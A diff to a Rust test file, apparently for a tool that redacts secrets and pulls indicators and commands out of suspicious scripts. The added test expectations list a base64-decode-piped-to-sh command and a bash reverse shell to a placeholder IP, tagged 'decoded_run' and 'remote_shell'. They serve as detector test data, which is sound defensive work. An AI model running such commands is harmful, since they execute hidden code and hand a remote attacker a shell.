@@ -115,8 +115,9 @@ proptest! {
         }
         let again = document_of(&raw, &KNOWLEDGE);
         prop_assert_eq!(&again.source, &document.source);
-        // Base64 has a marker of its own, and so has the whole of a text under a suspect name.
-        if matches!(planting, Planting::Member(..) | Planting::Variable(..)) {
+        // Base64 has a marker of its own, and so have the whole of a text under a suspect name and a text that a record which
+        // is no JSON had no work left for.
+        if !source.contains(":unsearched]") && matches!(planting, Planting::Member(..) | Planting::Variable(..)) {
             let marker = KNOWLEDGE.fingerprint_key.marker(&secret);
             prop_assert!(source.contains(&marker), "{marker} of {secret} is not in {source}");
             let other = document_of(&raw, &OTHER);
@@ -183,6 +184,13 @@ fn a_script_is_shown_with_its_indicators_and_without_its_secrets() {
                 redacted,
             ],
             "indicators": ["https://evil.example/x", "203.0.113.9", "evil.example"],
+            "commands": [
+                redacted.trim_end(),
+                format!("echo {} | base64 -d | sh", STANDARD.encode(&redacted)),
+                "bash -i >& /dev/tcp/203.0.113.9/4444 0>& 1",
+            ],
+            "behavior": ["decoded_run", "remote_shell"],
+            "run_source": ["https://evil.example/x"],
         })
     );
     assert_eq!(source["related"], json!({"ip": ["198.51.100.7", "203.0.113.9"], "hosts": ["evil.example"]}));
